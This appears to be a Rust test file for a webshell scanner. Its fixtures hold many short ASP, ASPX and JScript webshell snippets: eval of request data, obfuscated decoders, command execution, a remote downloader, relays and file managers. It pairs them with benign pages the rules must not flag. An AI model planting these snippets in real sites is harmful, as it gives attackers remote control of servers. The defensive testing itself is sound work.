    let inc = "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\npublic class H : IHttpHandler { public void ProcessRequest(HttpContext c) {\n var w = File.CreateText(c.Server.MapPath(\"status.aspx\"));\n w.Write(\"<!--#include file=\\\"notes.txt\\\" -->\");\n w.Close(); } public bool IsReusable { get { return false; } } }";
    assert!(hits(inc).contains("EXRAY_Dropper_Embedded_Page"));
    // eval_r: the one-liner after a filter renamed eval.
    let eval_r = "<%eval_r(Request(\"k2\"))%>";
    assert!(hits(eval_r).contains("EXRAY_Eval_Request_Direct"));
    // The key spelled with Chr(), the statement ended by a comment.
    let comment = "<%\nk = Chr(-100) & Chr(-200)\nv = Request(k)\neVal v 'the key\n%>";
    assert!(hits(comment).contains("EXRAY_VBS_Eval_Request_Variable"));
    // Junk characters stripped out of a hidden statement, then run.
    let strip =
        "<%\nq = \"eQxQeQcQuQtQe(rQeQqQuQeQsQt(9))\"\nq = Replace(q, \"Q\", \"\")\neval q\n%>";
    assert!(hits(strip).contains("EXRAY_ASP_Execute_Decoder"));
    // A statement spelled by calls that pick characters from a key string.
    let picks = "<%\nFunction p(n):p=Mid(k,n,1):End Function:k=\"abcdefghij\"\nExecute(p(5)&p(2)&p(1)&p(9)&p(3))\n%>";
    assert!(hits(picks).contains("EXRAY_ASP_Execute_Decoder"));
    // JScript that hands eval out of a function.
    let ret = "<%@ Language=\"JScript\" %>\n<% function g(x) { if (x) { return Request('q') + ''; } return eval\n}\ng()(g(1)); %>";
    assert!(hits(ret).contains("EXRAY_JScript_Eval_Alias"));
    // ScriptControl given request code without AddObject.
    let sc = "<%\nSet o = Server.CreateObject(\"MSScriptControl.ScriptControl\")\no.Language = \"vbscript\"\no.AddCode(Request(\"c\"))\no.Run \"m\", Response\n%>";
    assert!(hits(sc).contains("EXRAY_ScriptControl_Request"));
    // A downloader pasted from GBK text: its quotes are the curly quotes GBK encodes as A1 B0 / A1 B1.
    let mut gbk: Vec<u8> = Vec::new();
    for part in [
        "<%\nSet h = CreateObject(",
        "\u{1}Microsoft.XMLHTTP\u{2}",
        ")\nh.Open \u{1}GET\u{2}, u, False\nh.Send()\nSet s = CreateObject(\u{1}ADODB.Stream\u{2})\ns.Write(h.responseBody)\ns.SaveToFile Server.MapPath(\u{1}x.asp\u{2}), 2\n%>",
    ] {
        for b in part.bytes() {
            match b {
                1 => gbk.extend_from_slice(&[0xA1, 0xB0]),
                2 => gbk.extend_from_slice(&[0xA1, 0xB1]),
                b => gbk.push(b),
            }
        }
    }
    let gbk_hits: BTreeSet<String> = rules()
        .scanner()
        .scan("gbk.asp", &gbk)
        .expect("scan")
        .into_iter()
        .map(|h| h.meta.id)
        .collect();
    assert!(
        gbk_hits.contains("EXRAY_Remote_Fetch_To_Disk"),
        "{gbk_hits:?}"
    );
    // A relay whose target comes from oddly named form fields and whose body is the caller's.
    let relay = "<%@ Page Language=\"C#\" %>\n<%\nstring u = Request.Form[\"Remoteserver\"] + Request.Form[\"Endpoint\"];\nbyte[] b = new byte[Request.ContentLength];\nRequest.InputStream.Read(b, 0, b.Length);\nvar r = (HttpWebRequest)WebRequest.Create(u);\nr.Method = \"POST\";\nr.GetRequestStream().Write(b, 0, b.Length);\nResponse.Write(new StreamReader(r.GetResponse().GetResponseStream()).ReadToEnd());\n%>";
    assert!(hits(relay).contains("EXRAY_HTTP_Proxy_Request_Url"));
    // An application that builds its links from the Host header and fetches a fixed feed.
    let links = "<%@ Page Language=\"C#\" %>\n<%\nstring host = Request.Headers[\"Host\"];\nusing (var wc = new WebClient()) {\n string feed = wc.DownloadString(\"https://news.example/feed.xml\");\n Response.Write(Server.HtmlEncode(host + \": \" + feed.Length));\n}\n%>";
    lacks(links, "EXRAY_HTTP_Proxy_Request_Url");
    // An operator's relay panel that keeps the target in a cookie, base64 encoded, and posts
    // its form there.
    let panel = "<%@ Page Language=\"C#\" %>\n<%\nstring url = FromBase64(HttpContext.Current.Request.Cookies[\"url\"].Value);\nusing (WebClient wc = new WebClient()) {\n string r = wc.UploadString(url, Request.Form.ToString());\n Response.Write(FromBase64(r));\n}\n%>";
    assert!(
        hits(panel).contains("EXRAY_HTTP_Proxy_Request_Url"),
        "{:?}",
        hits(panel)
    );
    // A forwarder to one fixed backend is not a relay to anywhere.
    let fixed = "<%@ Page Language=\"C#\" %>\n<%\nstring id = Request.Form[\"order\"];\nbyte[] b = new byte[Request.ContentLength];\nRequest.InputStream.Read(b, 0, b.Length);\nvar r = (HttpWebRequest)WebRequest.Create(\"https://payments.example/api/notify\");\nr.GetRequestStream().Write(b, 0, b.Length);\nResponse.Write(\"ok\");\n%>";
    assert!(!hits(fixed).contains("EXRAY_HTTP_Proxy_Request_Url"));
    // A page that saves an image from the URL it is given, and says so, relays nothing back.
    let saver = "<%\nu = Request(\"url\")\nSet h = CreateObject(\"WinHttp.WinHttpRequest.5.1\")\nh.Open \"GET\", u, False\nh.Send\nSet st = CreateObject(\"ADODB.Stream\")\nst.Type = 1\nst.Open\nst.Write h.ResponseBody\nst.SaveToFile Server.MapPath(\"images/preview.jpg\"), 2\nResponse.Write(\"Image has been saved\")\n%>";
    assert!(hits(saver).is_empty(), "{:?}", hits(saver));
    // Client-side JavaScript that evaluates a variable next to a Replace() of another: no decoder.
    let client = "<%\nname = Replace(name, \"-\", \"\")\n%>\n<script>\nvar cfg = load();\n"
        .to_string()
        + &"// filler\n".repeat(40)
        + "eval(cfg)\n</script>";
    assert!(!hits(&client).contains("EXRAY_ASP_Execute_Decoder"));
    // A GIF header in front changes nothing.
    let gif = "GIF89a\n<%eval request(\"i\")%>";
    assert!(hits(gif).contains("EXRAY_Eval_Request_Direct"));
}

#[test]
fn builtin_rules_carry_complete_metadata() {
    let r = rules();
    assert!(r.rule_count() >= 30, "only {} rules", r.rule_count());
    for m in r.rule_metas() {
        assert!(m.id.starts_with("EXRAY_"), "{}", m.id);
        assert!(!m.title.is_empty() && !m.description.is_empty(), "{}", m.id);
        assert_eq!(m.family, exray_core::Family::Generic, "{}", m.id);
        assert_eq!(m.stage, exray_core::Stage::Foothold, "{}", m.id);
        assert!(
            m.attack.iter().any(|a| a == "T1505.003"),
            "{}: {:?}",
            m.id,
            m.attack
        );
    }
}

#[test]
fn hits_carry_offsets_and_escaped_excerpts() {
    let data = "\u{0}\u{1}GIF89a\n<%eval request(\"i\")%>";
    let mut s = rules().scanner();
    let hits = s.scan("x.aspx", data.as_bytes()).unwrap();
    let h = hits
        .iter()
        .find(|h| h.meta.id == "EXRAY_Eval_Request_Direct")
        .expect("hit");
    assert!(!h.matches.is_empty());
    for m in &h.matches {
        let start = m.offset as usize;
        let end = start + m.length as usize;
        assert!(end <= data.len());
        assert!(data[start..end].contains("eval"), "{m:?}");
        assert!(m.excerpt.len() <= 4 * exray_yara::EXCERPT_CAP + 3);
        assert!(!m.excerpt.contains('\n'));
        assert_eq!(m.rule, "EXRAY_Eval_Request_Direct");
    }
}

#[test]
fn scanner_is_reused_across_files() {
    let mut s = rules().scanner();
    for i in 0..50 {
        let pos = format!("<% eval(Request.Item[\"k{i}\"]) %>");
        assert!(!s.scan("p", pos.as_bytes()).unwrap().is_empty());
        assert!(s.scan("n", b"<html>plain</html>").unwrap().is_empty());
    }
}

/// Shapes of real applications that share a rule's strings but not its data flow (checked by
/// `exray_yara::flow`), and the shells the same rules must still see. Each negative fires no rule.
#[test]
fn data_flow_tells_applications_from_shells() {
    let quiet = [
        // A plugin hook: the executed name is registered elsewhere, the request is read for itself.
        "<!--#include file=\"c_system_lib.asp\"-->\n<%\nq = TransferHTML(Request.QueryString(\"q\"), \"[nohtml]\")\nIf Not IsEmpty(sAction_Plugin_Search_Begin) Then Call Execute(sAction_Plugin_Search_Begin)\nResponse.Write Server.HTMLEncode(q)\n%>\n",
        // A template engine: markers replaced by values, the compiled template executed.
        "<%\nFunction Compile(code, name)\n  Dim s\n  s = Replace(code, \"{name}\", name)\n  s = Replace(s, \"{i}\", idx)\n  s = Replace(s, \"{tab}\", vbTab)\n  Compile = Join(Split(s, vbNullChar), vbCrLf)\nEnd Function\ntpl = Compile(LoadTemplate(\"list\"), \"articles\")\nExecute(tpl)\n%>\n",
        // An update check: the answer is parsed and shown in markup.
        "<%\nd = Request.ServerVariables(\"SERVER_NAME\")\nSet x = Server.CreateObject(\"MSXML2.ServerXMLHTTP\")\nx.open \"GET\", \"http://update.example.org/check?domain=\" & d, False\nx.send\nv = Left(x.responseText, 8)\nResponse.Write \"<p>Latest version: \" & Server.HTMLEncode(v) & \"</p>\"\n%>\n",
        // Intranet sign-in: the signed-in user's own groups.
        "<%\nu = Replace(Request.ServerVariables(\"AUTH_USER\"), \"\\\\\", \"/\")\nSet info = GetObject(\"WinNT://\" + u)\nFor Each g In info.Groups\n  groups = groups & \", \" & g.Name\nNext\nSession(\"groups\") = groups\n%>\n",
        // An admin information page inside its application.
        "<!--#include file=\"config.asp\"-->\n<!--#include file=\"inc_admin_check.asp\"-->\n<%\nFor Each key In Request.ServerVariables\n  Response.Write \"<tr><td>\" & key & \"</td><td>\" & Server.HTMLEncode(Request.ServerVariables(key)) & \"</td></tr>\"\nNext\n%>\n",
        // An installer writing its configuration, database password included.
        "<%\ndbpass = Request.Form(\"pwd\")\nSet fso = Server.CreateObject(\"Scripting.FileSystemObject\")\nSet f = fso.CreateTextFile(Server.MapPath(\"data/site.ini\"), True)\nf.WriteLine \"[database]\"\nf.WriteLine \"password=\" & dbpass\nf.Close\n%>\n",
        // A setup page reading the database script the admin picked, to show it.
        "<%\nSet fs = Server.CreateObject(\"Scripting.FileSystemObject\")\nSet t = fs.OpenTextFile(Server.MapPath(\"dbs/\" & Request.Form(\"mod\")), 1, False)\nResponse.Write \"<pre>\" & Server.HTMLEncode(t.ReadAll) & \"</pre>\"\nt.Close\n%>\n",
        // A login page: the connection string comes from the configuration include.
        "<!--#include file=\"config.asp\"-->\n<%\nuser = Request.Form(\"user\")\nret = Request.Form(\"ReturnTo\")\nSet my_Conn = Server.CreateObject(\"ADODB.Connection\")\nmy_Conn.Open strConnString\nstrSql = \"SELECT id FROM members WHERE name = '\" & ChkString(user) & \"'\"\nSet rs = my_Conn.Execute(strSql)\n%>\n",
    ];
    for page in quiet {
        assert_eq!(hits(page), BTreeSet::new(), "fired on:\n{page}");
    }
    let loud = [
        ("EXRAY_VBS_Eval_Request_Variable", "<%\nSet d = Server.CreateObject(\"Scripting.Dictionary\")\nk = \"pay\" & \"load\"\nd.Add k, Session(k)\nSession(k) = Request.Form(\"z\")\nExecute(d(k))\n%>\n"),
        ("EXRAY_Remote_Content_Relay", "<%\nsrc = \"http://203.0.113.40:81/\"\nme = \"http://\" & Request.ServerVariables(\"HTTP_HOST\") & Request.ServerVariables(\"SCRIPT_NAME\")\nbody = Fetch(src & \"index.php?host=\" & me)\nResponse.Write body\nFunction Fetch(u)\n Set h = Server.CreateObject(\"MSXML2.ServerXMLHTTP\")\n h.Open \"GET\", u, False\n h.send\n Fetch = h.responseText\nEnd Function\n%>\n"),
        ("EXRAY_Remote_Content_Relay", "<%\nsrc = \"http://203.0.113.40:81/\"\nbody = Fetch(src & \"?q=\" & Request.ServerVariables(\"QUERY_STRING\"))\nFunction Fetch(u)\n Set h = Server.CreateObject(\"MSXML2.ServerXMLHTTP\")\n h.Open \"GET\", u, False\n h.send\n Fetch = h.responseText\nEnd Function\n%><html><body><%= body %></body></html>\n"),
        ("EXRAY_ASP_Execute_Decoder", "<%\non error resume next\nk = \"\"\nd = \"\"\nd = d & \"101B118B97B108B32B114B101B113B117B101B115B116B40B34B\"\nd = d & \"120B34B41B\"\nfor each c in split(d, \"B\") : k = k & chr(c) : next\nexecute k\n%>\n"),
        ("EXRAY_JScript_Service_Eval", "<%@ ServiceHost Language=\"JScript\" Debug=\"true\" Service=\"Svc\" %>\nimport System;\nimport System.ServiceModel;\nServiceContractAttribute public class Svc {\n OperationContractAttribute public function run(s : String) : String {\n  return eval(s);\n }\n}\n"),
        ("EXRAY_Upload_Request_Named", "<%@ Page Language=\"C#\" %>\n<% Request.Files[0].SaveAs(Request.Form[\"p\"]); %>\n"),
        ("EXRAY_Eval_Request_Direct", "<%@ Page Language=\"JScript\" %><script runat=\"server\">function Page_Load(){ DataBind(); }</script>\n<%# eval(Request.Item[\"c\"], \"unsafe\") %>\n"),
        ("EXRAY_Script_Page_Writer_Request", "<%\nSet fs = Server.CreateObject(\"Scripting.FileSystemObject\")\nSet o = fs.CreateTextFile(Server.MapPath(\"cfg.asp\"))\no.Write \"<\" & \"%a=\" & Chr(34) & Request(\"a\") & Chr(34) & vbCrLf & Request(\"b\") & \"%\" & \">\"\no.Close\n%>\n"),
        ("EXRAY_SQL_Console_Request_Variables", "<%\ncs = Request.Form(\"c\")\nq = Request.Form(\"q\")\nSet conn = Server.CreateObject(\"ADODB.Connection\")\nconn.Open cs\nSet rs = conn.Execute(q)\n%>\n"),
        ("EXRAY_Page_Embedded_Executable", "<%\nb = Chr(77)&Chr(90)&Chr(144)&Chr(0)&Chr(3)&Chr(0)\nSet f = CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(p, 2, 0)\nf.Write b\n%>\n"),
        ("EXRAY_Page_Embedded_Executable", "<%@ Page Language=\"C#\" %>\n<% byte[] pe = new byte[] { 0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00 }; %>\n"),
        ("EXRAY_NET_Unicode_Escaped_Code", "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\npublic class H : \\u0053\\u200c\\U00000079\\U0000200d\\u0073\\ufeff\\u0074em.Web.IHttpHandler { }\n"),
        ("EXRAY_Upload_Beside_Page", "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nprotected void Go(object s, EventArgs e) {\n  f.SaveAs(Server.MapPath(\"./\") + f.FileName);\n}\n</script>\n<form runat=\"server\"><asp:FileUpload ID=\"f\" runat=\"server\" /><asp:Button runat=\"server\" OnClick=\"Go\" /></form>\n"),
    ];
    for (rule, page) in loud {
        assert!(hits(page).contains(rule), "{rule} missed:\n{page}");
    }
}

/// What the data-flow checks follow into a process, a script engine or a database, in the
/// spellings shells use: each page must trip its rule; the quiet ones (an upgrade page that
/// connects where its form says and runs its own SQL, a page that runs a fixed tool) must not.
#[test]
fn flows_into_processes_script_engines_and_databases() {
    let loud = [
        ("EXRAY_Request_Process_Flow", "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nusing System.Diagnostics; using System.Web;\npublic class H : IHttpHandler {\n public void ProcessRequest(HttpContext context) { var Request = context.Request;\n string x = Request.Headers[\"c\"]; Process.Start(x);\n }\n public bool IsReusable { get { return false; } }\n}\n"),
        ("EXRAY_Request_Process_Flow", "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Go(object s, EventArgs e) {\n var p = new Process(); p.StartInfo.FileName = \"cmd.exe\";\n p.StartInfo.Arguments = \"/c \" + txtCmd.Text;\n p.Start();\n}\n</script>\n"),
        ("EXRAY_Request_Process_Flow", "<%\nSet w = GetObject(\"winmgmts:\\\\.\\root\\cimv2:Win32_Process\")\nc = Request.Form(\"c\")\nw.Create c, Null, Null, pid\n%>\n"),
        ("EXRAY_Eval_Request_Flow", "<%\nSet sc = Server.CreateObject(\"MSScriptControl.ScriptControl\")\nsc.Language = \"VBScript\"\nsc.AddCode Request.Form(\"c\")\n%>\n"),
        ("EXRAY_Eval_Request_Flow", "<%@ Language=\"JScript\" %>\n<%\nvar f = new Function(String(Request.QueryString(\"c\"))); f();\n%>\n"),
        ("EXRAY_Eval_Request_Direct", "<%Execute Request.ServerVariables(\"HTTP_Z\")%>"),
    ];
    for (rule, page) in loud {
        assert!(hits(page).contains(rule), "{rule} missed:\n{page}");
    }
    let quiet = [
        // an upgrade page: the form names the server, the SQL is the page's own
        "<%\nSSIP = Request(\"SSIP\")\nUID = Request(\"UID\")\nSet c = Server.CreateObject(\"adodb.connection\")\nc.Open \"Driver={SQL Server};Server=\" & SSIP & \";Uid=\" & UID\nq = \"ALTER TABLE orders ADD note varchar(50) NULL\"\nc.Execute(q)\n%>\n",
        // a COM object's Run that is no process: a script control running the page's own code
        "<%\nSet sc = Server.CreateObject(\"MSScriptControl.ScriptControl\")\nsc.AddCode \"function total(a, b) { return a + b; }\"\nResponse.Write sc.Run(\"total\", 1, 2)\n%>\n",
    ];
    for page in quiet {
        let h = hits(page);
        assert!(h.is_empty(), "{h:?} on:\n{page}");
    }
}

/// A hit a data-flow check confirmed shows the statement the check found fed, at its offset.
#[test]
fn data_flow_hits_show_their_sink() {
    let page = "<%\nk = Request.Form(\"k\")\nv = Trim(k)\nExecute(v)\n%>\n";
    let mut s = rules().scanner();
    let hits = s.scan("fixture", page.as_bytes()).expect("scan");
    let hit = hits
        .iter()
        .find(|h| h.meta.id == "EXRAY_Eval_Request_Flow")
        .expect("the flow rule fires");
    let flow = hit
        .matches
        .iter()
        .find(|m| {
            m.identifier
                .as_deref()
                .is_some_and(|i| i.starts_with("data flow: request data"))
        })
        .expect("the sink is part of the evidence");
    let at = page.find("Execute(v)").unwrap() as u64;
    assert_eq!(flow.offset, at);
    assert_eq!(flow.length, "Execute(v)".len() as u64);
    assert!(flow.excerpt.contains("Execute(v)"), "{}", flow.excerpt);
}

/// Application code that shares words with shells, each a kind a benign look tripped: none may
/// fire any rule.
#[test]
fn application_kinds_trip_nothing() {
    let pages = [
        // an injection filter's word list, in a string and in InStr tests
        "<%\nBadWord = \"exec,execute,cmd.exe,insert,xp_cmdshell,select,\" & _\n \"executeglobal,eval,script,applet\"\nFunction Safe(s)\n If InStr(LCase(s), \"xp_cmdshell\") > 0 Or InStr(LCase(s), \"net localgroup administrators\") > 0 Or InStr(LCase(s), \"net user\") > 0 Then Response.End\n Safe = s\nEnd Function\nq = Safe(Request(\"q\"))\n%>\n",
        // a C# data layer's typed helpers (ExecuteNonQueryTypedParams)
        "using System;\nusing System.Data;\npublic sealed class SqlHelper {\n public static int ExecuteNonQueryTypedParams(string cs, string sp, DataRow row) {\n  return ExecuteNonQuery(cs, sp, GetParameterValues(row));\n }\n}\n",
        // a settings page that reads its configuration page and writes it back with one value changed
        "<%\nSet fso = Server.CreateObject(\"Scripting.FileSystemObject\")\npassword = Request.Form(\"pwd\")\nSet f = fso.OpenTextFile(Server.MapPath(\"/config/const.asp\"), 1)\nMB = f.ReadAll\nf.Close\nMB = Replace(MB, old, md5(password))\nSet f = fso.CreateTextFile(Server.MapPath(\"/config/const.asp\"), True)\nf.Write MB\nf.Close\n%>\n",
        // a settings form that shows the current values with <%= %> in its markup
        "<%\nSet fso = Server.CreateObject(\"Scripting.FileSystemObject\")\nSet f = fso.OpenTextFile(Server.MapPath(\"/config/const.asp\"), 1)\nMB = f.ReadAll\nf.Close\nMB = Replace(MB, oldLogo, Request.Form(\"logo\"))\nSet f = fso.CreateTextFile(Server.MapPath(\"/config/const.asp\"), True)\nf.Write MB\nf.Close\n%>\n<form method=\"post\"><input name=\"logo\" value=\"<%=request(\"logo\")%>\"></form>\n",
        // a forum's list of crawler names beside an update check
        "<%\nFunction BotName(ua)\n If InStr(ua, \"Googlebot\") > 0 Then BotName = \"Google\"\n If InStr(ua, \"bingbot\") > 0 Then BotName = \"Bing\"\nEnd Function\nSet x = Server.CreateObject(\"MSXML2.ServerXMLHTTP\")\nx.Open \"GET\", \"http://updates.example.org/version.txt\", False\nx.Send\nIf x.responseText <> strVersion Then Response.Write \"<p>An update is available</p>\"\n%>\n",
        // an upload library that parses the body byte by byte and evaluates its folder setting
        "<%\nSub BuildUpload(dir)\n bin = Request.BinaryRead(Request.TotalBytes)\n For i = 1 To LenB(bin)\n  s = s & chrB(AscB(MidB(bin, i, 1)))\n Next\n If InStr(dir, \"\"\"\") > 0 Then\n  dir = eval(dir)\n End If\nEnd Sub\n%>\n",
        // a settings page that writes its form as quoted constants of an include page
        "<%\nSet fso = Server.CreateObject(\"Scripting.FileSystemObject\")\nSet hf = fso.CreateTextFile(Server.MapPath(\"../inc/slides.asp\"), True)\nhf.Write \"<\" & \"%\" & vbCrLf\nhf.Write \"Const pic1=\" & Chr(34) & Trim(Request(\"pic1\")) & Chr(34) & vbCrLf\nhf.Write \"Const url1=\" & Chr(34) & Trim(Request(\"url1\")) & Chr(34) & vbCrLf\nhf.Write \"%\" & \">\"\nhf.Close\n%>\n",
        // a static-page generator whose save to a script page is commented out
        "<%\nFunction getHTTPPage(u)\n Set h = Server.CreateObject(\"MSXML2.ServerXMLHTTP\")\n h.Open \"GET\", u, False\n h.Send\n getHTTPPage = BytesToBstr(h.responseBody, \"utf-8\")\nEnd Function\nFunction C_htm(u, path)\n Html = getHTTPPage(u)\n 'set f=fso.CreateTextFile( server.mappath( \"index_c.asp\" ), true,true )\n 'f.WriteLine( Html )\n Set st = Server.CreateObject(\"ADODB.Stream\")\n st.Open\n st.WriteText Html\n st.SaveToFile Server.MapPath(path), 2\nEnd Function\n%>\n",
        // an upload component's object named like the request, saved under the application's name
        "<%\nDefaultPath = Server.MapPath(\"/admin/data/upFiles/\")\nSet uprequest = Server.CreateObject(\"TABSUpload4.Upload\")\nuprequest.Start DefaultPath\nsite = uprequest(\"site\")\nfullpath = uprequest(\"sFile\").SaveAs((DefaultPath + fname + \"_\" + \".\" + uprequest(\"sFile\").FileType), True)\n%>\n",
        // a converter web service that starts its own tool
        "<%@ WebService Language=\"C#\" Class=\"Pdf\" %>\nusing System.Web.Services;\npublic class Pdf : WebService {\n [WebMethod]\n public void Make() { System.Diagnostics.Process.Start(Server.MapPath(\"~/bin/wkhtmltopdf.exe\"), \"in.html out.pdf\").WaitForExit(); }\n}\n",
        // an intranet tool's maintenance page that runs a local PowerShell script
        "<%\nOn Error Resume Next\nSet objShell = Server.CreateObject(\"Wscript.Shell\")\nx = objShell.Run(\"powershell -executionpolicy bypass -windowstyle hidden -file f:\\tools\\scripts\\cleanup.ps1\")\nResponse.Write x\n%>\n",
        // an admin page that opens a recordset on a SELECT with a request value spliced in (a
        // SELECT is no connection string) and runs a named query
        "<%\nset conexao = Server.CreateObject(\"ADODB.Connection\")\nconexao.Open(StringdeConexao)\nset rs = createobject(\"adodb.recordset\")\nset rs.activeconnection = conexao\nrs.open \"select * from compras where datacompra='\" & Request(\"data\") & \"' AND status <> 'Aberto'\"\nSet rs2 = conexao.Execute(Request(\"sp\") & \"_report\")\n%>\n",
        // a generated CRUD page that carries its query in a hidden field, on the application's
        // connection from global.asa
        "<%\nSet objCon = Server.CreateObject(\"ADODB.Connection\")\nobjCon.Open Application(\"SOS_conexao\")\nSet objRS = Server.CreateObject(\"ADODB.Recordset\")\nstrQ = Request.Form(\"strQ\")\nobjRS.Open strQ, objCon, , , &H0001\nobjRS(\"tipo\") = Trim(Request.Form(\"tipo\"))\nobjRS.UpdateBatch\n%>\n<INPUT type=hidden name=strQ value=\"<%=Request.Form(\"strQ\")%>\">\n",
        // a health page that talks to two mail services in turn
        "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object o, EventArgs e) {\n var a = new System.Net.Sockets.Socket(System.Net.Sockets.AddressFamily.InterNetwork, System.Net.Sockets.SocketType.Stream, System.Net.Sockets.ProtocolType.Tcp);\n a.Connect(\"smtp.corp.example\", 25); a.Receive(buf); a.Send(quit); a.Receive(buf);\n var b = new System.Net.Sockets.Socket(System.Net.Sockets.AddressFamily.InterNetwork, System.Net.Sockets.SocketType.Stream, System.Net.Sockets.ProtocolType.Tcp);\n b.Connect(\"pop.corp.example\", 110); b.Receive(buf); b.Send(quit);\n lbl.Text = \"ok\";\n}\n</script>\n",
        // an upload handler that saves under the configured folder (its MapPath commented out)
        "<%@ WebHandler Language=\"C#\" Class=\"Up\" %>\nusing System.Web;\npublic class Up : IHttpHandler {\n public void ProcessRequest(HttpContext context) {\n  string path = System.Configuration.ConfigurationManager.AppSettings[\"UploadPath\"];\n  HttpPostedFile file = context.Request.Files[\"Filedata\"];\n  string dir = path + \"\\\\\" + context.Request.QueryString[\"MainID\"];//HttpContext.Current.Server.MapPath(@path);\n  file.SaveAs(dir + \"\\\\\" + file.FileName);\n }\n public bool IsReusable { get { return false; } }\n}\n",
        // ASP.NET data binding of a field the query names, and a C# page's TemplateControl.Eval
        "<%@ Page Language=\"C#\" %>\n<asp:Repeater ID=\"r\" runat=\"server\"><ItemTemplate>\n<b><%# Eval(\"FieldName\") %></b> <%#Eval(Request.QueryString[\"Itemid\"].ToString()) %>\n</ItemTemplate></asp:Repeater>\n",
        "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nprotected string Cell(string f) {\n string col = Request.QueryString[\"sort\"] ?? f;\n return Convert.ToString(Eval(col));\n}\n</script>\n<asp:Repeater ID=\"r\" runat=\"server\"><ItemTemplate><%# Cell(\"Name\") %></ItemTemplate></asp:Repeater>\n",
    ];
    for p in pages {
        let h = hits(p);
        assert!(h.is_empty(), "{h:?} fired on:\n{p}");
    }
    // a thumbnail page that runs its own converter and shows its output, with a query key
    // called "cmd": no command interpreter is started (other rules judge the page's request use)
    let thumb = "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n if (Request[\"cmd\"] == \"thumb\") {\n  var psi = new ProcessStartInfo(Server.MapPath(\"~/bin/ffmpeg.exe\"), \"-i in.mp4 -frames 1 out.jpg\");\n  psi.RedirectStandardOutput = true;\n  psi.UseShellExecute = false;\n  Response.Write(Server.HtmlEncode(Process.Start(psi).StandardOutput.ReadToEnd()));\n }\n}\n</script>\n";
    lacks(thumb, "EXRAY_NET_Page_Runs_Command_Shell");
    // the same keyword list in a JScript page: a word of a list is no alias of eval
    let list = "<%@ Language=\"JScript\" %>\n<%\nvar bad = \"exec,execute,xp_cmdshell,executeglobal,eval,script,applet\".split(\",\");\nvar q = String(Request(\"q\"));\n%>\n";
    assert!(hits(list).is_empty(), "{:?}", hits(list));
    // while an array that holds eval is one
    let arr =
        "<%@ Language=\"JScript\" %>\n<%\nvar a = [0,eval,0];\na[1](String(Request(\"q\")));\n%>\n";
    assert!(
        hits(arr).contains("EXRAY_JScript_Eval_Alias"),
        "{:?}",
        hits(arr)
    );
    // a large class library that loads its extensions and reads request values elsewhere
    let mut big = String::from(
        "using System;\nusing System.Reflection;\npublic static class Utils {\n public static void LoadExtensions(string[] names) {\n  foreach (var a in names) { var asm = Assembly.Load(a); asm.CreateInstance(a + \".Extension\"); }\n }\n public static string Culture(HttpRequest request) { return request.Headers[\"Accept-Language\"]; }\n",
    );
    while big.len() < 30 * 1024 {
        big.push_str(" public static string Pad(string s) { return s.PadLeft(10); } // keeps the file large\n");
    }
    big.push_str("}\n");
    assert!(hits(&big).is_empty(), "{:?}", hits(&big));
}

/// HTML inputs run at the server are what the caller typed, as much as text boxes are.
#[test]
fn server_html_inputs_are_request_data() {
    let page = "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Pack(object o, EventArgs e) {\n Process p = Process.Start(\"\\\"\" + txtTool.Value + \"\\\"\", \" a -y \" + txtOut.Value + \" \" + txtDir.Value);\n p.WaitForExit();\n}\n</script>\n<form runat=\"server\"><input id=\"txtTool\" type=\"text\" runat=\"server\" /><input id=\"txtOut\" runat=\"server\" /><input id=\"txtDir\" runat=\"server\" /></form>\n";
    assert!(
        hits(page).contains("EXRAY_Request_Process_Flow"),
        "{:?}",
        hits(page)
    );
    // the value of some other object in a page with server inputs is not the caller's
    let other = "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object o, EventArgs e) {\n var setting = ConfigurationManager.AppSettings.Get(\"tool\");\n var kv = Tools.First();\n Process.Start(kv.Value, txtName.Value.Length.ToString());\n}\n</script>\n<form runat=\"server\"><input id=\"txtSearch\" runat=\"server\" /></form>\n";
    lacks(other, "EXRAY_Request_Process_Flow");
    // without server inputs, a .Value is some object's value, not the caller's
    let plain = "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object o, EventArgs e) {\n var s = ConfigurationManager.AppSettings.Get(\"tool\");\n Process.Start(setting.Value);\n}\n</script>\n";
    lacks(plain, "EXRAY_Request_Process_Flow");
}

/// The checks added for the seventh looks hold on their sinks, whatever the call around them.
#[test]
fn relays_paths_loads_and_logons_are_read_at_their_sinks() {
    // crawler cloaking that writes a fetched page through nested calls
    let seo = "<%@ Application Language=\"C#\" %>\n<script runat=\"server\">\nvoid Application_BeginRequest(object s, EventArgs e) {\n var ua = Request.UserAgent ?? \"\";\n if (ua.Contains(\"Baiduspider\")) {\n  var wc = new System.Net.WebClient();\n  Response.Write(System.Text.Encoding.UTF8.GetString(wc.DownloadData(\"http://links.example.net/p\")));\n  Response.End();\n }\n}\n</script>\n";
    assert!(
        hits(seo).contains("EXRAY_SEO_Cloaking_Relay"),
        "{:?}",
        hits(seo)
    );
    // a file manager whose folder arrives as the request's path info
    let fm = "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object o, EventArgs e) {\n string d = Request.PathInfo.TrimStart('/');\n foreach (var f in Directory.GetFiles(d)) Response.Write(f);\n foreach (var s in Directory.GetDirectories(d)) Response.Write(s);\n if (Request[\"del\"] != null) File.Delete(Request[\"del\"]);\n if (Request[\"mv\"] != null) File.Move(Request[\"mv\"], Request[\"to\"]);\n if (Request[\"cp\"] != null) File.Copy(Request[\"cp\"], Request[\"to\"]);\n}\n</script>\n";
    assert!(
        hits(fm).contains("EXRAY_File_Manager_Request"),
        "{:?}",
        hits(fm)
    );
    // the same operations on the application's own folder
